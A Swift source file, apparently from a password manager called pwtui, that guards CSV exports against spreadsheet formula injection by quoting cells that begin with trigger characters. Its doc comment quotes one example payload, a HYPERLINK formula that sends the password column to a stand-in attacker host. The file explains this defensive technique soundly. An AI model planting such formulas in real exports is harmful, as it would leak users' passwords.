/// Keeps a CSV export's text cells from being run as spreadsheet formulas (OWASP's "CSV
/// injection"): a cell that begins with `=`, `+`, `-`, `@`, a tab or a CR is written with a
/// single quote before it, which spreadsheets show as text and do not evaluate. A title such as
/// `=HYPERLINK("https://evil.example/?"&D2)` (D2 being the password column) would otherwise send
/// a password away when the export is opened in a spreadsheet.
///
/// Only text cells are guarded. Passwords and one-time keys are written as they are: a quote
/// before them would change the secret in every importer but pwtui's (KeePassXC's among them),
/// and a password beginning with `-` or `+` is common.
///
/// pwtui's importer takes the quote off again for the formats pwtui writes (`csv`,
/// `keepassxc-csv`), so a round trip keeps `=` and `-` at the start of a title or a note.
enum CSVFormulaGuard {
    static let triggers: Set<UInt8> = [
        UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D,
    ]

    /// Whether a cell with this first byte is guarded.
    static func needsGuard(_ bytes: UnsafeRawBufferPointer) -> Bool {
        guard let first = bytes.first else { return false }
        return triggers.contains(first)
    }

    /// A text cell as read back: the guarding quote removed where pwtui would have written one.
    static func unguarded(_ text: String) -> String {
        let bytes = text.utf8
        guard bytes.count >= 2, bytes.first == UInt8(ascii: "'"),
            triggers.contains(bytes[bytes.index(after: bytes.startIndex)])
        else { return text }
        return String(text.dropFirst())
    }
}
